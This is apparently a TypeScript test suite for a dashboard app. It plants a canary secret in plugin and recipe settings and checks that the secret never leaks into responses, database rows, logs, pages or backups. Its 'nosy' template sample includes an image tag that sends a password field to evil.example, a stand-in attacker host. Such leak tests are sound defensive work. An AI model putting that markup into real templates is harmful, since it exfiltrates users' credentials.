/** A secret in papers of every kind that takes one: wherever it could come to light it is looked for, and nowhere found. */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { openBackup } from '../../cli/backup/backup-key.ts';
import { createBackup } from '../../cli/backup/create-backup.ts';
import { restoreBackup } from '../../cli/backup/restore-backup.ts';
import { isOnPostgres } from '../database.ts';
import { checkout } from '../sources.ts';
import { type LiveWorld, withLivePapers } from './live-world.ts';

const test = suite('a secret of each paper');

const canary = 'canary-5ecret-f00d';
const json = { 'content-type': 'application/json' };
const asks = 'strategy: polling\npolling_url: https://a.example/data?key={{ api_key }}\n';
const recipe = `name: Board\n${asks}polling_headers: "authorization=Bearer {{ word }}"\npolling_verb: post\npolling_body: "{{ word }}"
custom_fields:
  - keyname: api_key
    field_type: string
    name: Key
  - keyname: word
    field_type: password
    name: Word
  - keyname: ics_url
    field_type: url
    name: Calendar
    optional: true
`;
/** Markup that prints all that it can see. */
const nosy = `{{ trmnl | json }}{{ api_key }}{{ word }}{{ trmnl.plugin_settings.custom_fields_values | json }}<img src="https://evil.example/{{ trmnl.plugin_settings.custom_fields_values.word }}">{{ data | json }}{{ echoed }}`;

const manifest = {
  name: 'Notes',
  formSchema: { properties: { pin: { format: 'password' }, icsUrl: { type: 'string' }, rotaUrl: { type: 'string' } } },
};

/** The papers, each with the canary where a person may type one. */
const papersWith = (recipeId: string): readonly (readonly [kind: string, meta: object])[] => [
  [
    'recipe',
    { recipe: recipeId, pluginSettings: { api_key: canary, word: canary, ics_url: `https://c.example/${canary}` } },
  ],
  ['recipe', { template: { addresses: 'https://a.example/data', headers: `x-api-key: ${canary}`, markup: nosy } }],
  [
    'plugin',
    {
      pluginConfigUrl: 'https://notes.example/config.json',
      pluginManifest: manifest,
      pluginSettings: {
        pin: canary,
        icsUrl: `https://c.example/${canary}.ics`,
        rotaUrl: `https://c.example/${canary}`,
        apiToken: canary,
        address: `https://me:${canary}@c.example/`,
      },
    },
  ],
];

/** Texts in which it must not be, by where they come from. */
type Texts = Map<string, string>;

function assertNowhere(texts: Texts): void {
  for (const [where, text] of texts) assert.not.ok(text.includes(canary), where);
}

async function makePapers({ write, addPaper, call, admin, db }: LiveWorld, texts: Texts): Promise<readonly string[]> {
  const made = await write(recipe, nosy);
  assert.is(made.status, 201, made.text);
  const ids: string[] = [];
  for (const [kind, meta] of papersWith(made.json.id)) {
    const paper = await addPaper(kind, meta);
    assert.is(paper.status, 200, paper.text);
    texts.set(`answer about a new ${kind}`, paper.text);
    ids.push(paper.json.id);
  }
  const { id: remote } = (await addPaper('remote', { url: 'https://a.example/x.png' })).json;
  const login = { address: 'https://a.example/', header: 'x-word', value: canary };
  const set = await call('PUT', `/papers/${remote}/logins/`, { as: admin, json: login });
  assert.is(set.status, 200, set.text);
  texts.set('answer about a login', set.text);
  const board = await addPaper('board', { parts: [...ids.slice(0, 1), remote] });
  assert.is((await db('papers')).length, 5);
  return [...ids, remote, board.json.id];
}

/** Draws each paper as a draft, polls it, and reads all that is said of it. */
async function askEverything(world: LiveWorld, ids: readonly string[], texts: Texts): Promise<void> {
  const { call, admin, db, pages, addDevice } = world;
  const said = async (method: string, path: string, body?: object) => {
    const answer = await call(method, path, { as: admin, ...(body && { json: body }) });
    texts.set(`${method} ${path}`, answer.text);
    return answer;
  };
  const deviceId = await addDevice();
  for (const paperId of ids) {
    const paper = await said('GET', `/papers/${paperId}`);
    const { kind, meta } = paper.json;
    await said('GET', `/papers/${paperId}/recipe-data`);
    await said('POST', `/papers/${paperId}/recipe-data`);
    await said('GET', `/papers/${paperId}/logins/`);
    if (kind !== 'plugin') await said('POST', '/previews/paper', { deviceId, kind, meta, paperId });
    if (kind === 'recipe') {
      await said('POST', '/previews/recipe-data', { organization: admin.organizationId, meta, paperId });
    }
    await said('POST', `/papers/${paperId}`, { ...paper.json, meta: { ...meta, title: 'Other' } });
  }
  await said('GET', `/papers/?organization=${admin.organizationId}`);
  await said('GET', `/recipes/?organization=${admin.organizationId}`);
  await said('GET', `/audit/?organization=${admin.organizationId}`);
  texts.set('pages for the browser', JSON.stringify(pages.map(({ logins: _, ...page }) => page)));
  assert.ok(pages.length >= 2, 'recipes were drawn');
  for (const { files } of pages) {
    const file = await files?.read('https://recipe.papergate.invalid/');
    texts.set(`markup of page ${texts.size}`, String(file?.body));
    if (file !== undefined) assert.match(String(file.body), /custom_fields_values|instance_name/);
  }
  for (const table of ['papers', 'recipe_data', 'recipes', 'recipe_hooks', 'remote_pictures', 'address_logins']) {
    texts.set(`rows of ${table}`, JSON.stringify(await db(table)));
  }
}

test('T-119: its sources get it; answers, rows, log, pages, the files of the database and of a backup do not have it', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'papergate-canary-'));
  try {
    await withLivePapers(
      // A source that hands back all that it is told.
      ({ headers, body, path }, response) =>
        response.writeHead(200, json).end(JSON.stringify({ echoed: { headers, body, path }, data: [body, canary] })),
      async (world) => {
        const texts: Texts = new Map();
        const ids = await makePapers(world, texts);
        await askEverything(world, ids, texts);
        const { received, log, dataFolder, clock, db } = world;
        const told = received.filter(({ headers, path, body }) =>
          JSON.stringify([headers, path, body]).includes(canary),
        );
        assert.ok(
          told.some(({ path }) => path === `/data?key=${canary}`),
          'the source of the recipe',
        );
        assert.ok(
          told.some(({ headers }) => headers['x-api-key'] === canary),
          'the source of the template',
        );
        assert.ok(
          told.some(({ headers }) => headers['x-word'] === canary),
          'the source of the picture',
        );
        assert.equal([...new Set(told.map(({ headers }) => headers.host))], ['a.example']);
        texts.set('log', JSON.stringify(log));
        assertNowhere(texts);
        if (isOnPostgres) return;
        for (const name of readdirSync(dataFolder, { recursive: true, encoding: 'utf8' })) {
          const path = join(dataFolder, name);
          if (statSync(path).isFile()) texts.set(path, readFileSync(path, 'latin1'));
        }
        assert.ok([...texts.keys()].some((name) => name.endsWith('papergate.sqlite-wal')));
        const [to, key] = [join(folder, 'papergate.tar.age'), 'a key that nobody guesses, in 43 characters'];
        await createBackup({ dataFolder, url: undefined, to, key, version: '0.0.0', now: clock.now() });
        texts.set('backup', (await buffer(await openBackup(to, key))).toString('latin1'));
        assert.match(texts.get('backup') ?? '', /papergate-secret:/, 'it was decrypted');
        assertNowhere(texts);
        const kept = await db('recipe_data').orderBy('paper_id');
        const restored = join(folder, 'restored');
        await restoreBackup(to, key, restored, undefined);
        const { default: Sqlite } = await import('better-sqlite3');
        const rows = new Sqlite(join(restored, 'papergate.sqlite'), { readonly: true });
        try {
          assert.equal(
            rows.prepare('select * from recipe_data order by paper_id').all(),
            kept,
            'a backup has the data',
          );
          assert.is(rows.prepare('select * from recipes').all().length, 1);
        } finally {
          rows.close();
        }
      },
    );
  } finally {
    await rm(folder, { recursive: true });
  }
});

test('a draft is kept in no storage of the browser, which has the id of a frame alone', () => {
  const folder = join(checkout, 'console/papers');
  const sources = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter(
    (name) => /\.tsx?$/.test(name) && name !== 'last-frame.ts',
  );
  assert.ok(sources.length > 30);
  for (const name of sources) {
    assert.not.match(readFileSync(join(folder, name), 'utf8'), /localStorage|sessionStorage|indexedDB|caches\./, name);
  }
});

test.run();
